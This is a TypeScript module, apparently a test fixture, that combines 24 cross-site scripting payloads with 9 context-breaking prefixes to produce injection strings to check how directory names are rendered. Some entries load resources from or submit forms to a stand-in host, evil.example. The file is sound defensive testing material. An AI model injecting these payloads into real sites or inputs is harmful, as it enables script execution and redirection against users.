/** What a directory may hold as a name and what would like to be markup, an attribute, a script or an address. */
const bodies = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)<!--',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<iframe src=javascript:alert(1)>',
  '<a href=javascript:alert(1) autofocus>x</a>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<object data=javascript:alert(1)>',
  '<math><mtext><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<style>@import'//evil.example'</style>",
  '<base href=//evil.example>',
  '<meta http-equiv=refresh content=0;//evil.example>',
  '<form action=//evil.example><button>x',
  '<<script>alert(1)//<</script>',
  ' onmouseover=alert(1) x=',
  ' autofocus onfocus=alert(1) tabindex=0 x=',
  'javascript:alert(1)',
  '&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;',
  "{{constructor.constructor('alert(1)')()}}",
  '${alert(1)}',
];
const openers = ['', '"', "'", '">', "'>", '</title>', '</textarea>', '</script>', '-->'];

/** Each place in the row is another text; the first twenty-four are every body by itself. At most 216. */
export const markupPayloads: readonly string[] = openers.flatMap((opener) =>
  bodies.map((body) => opener + body),
);
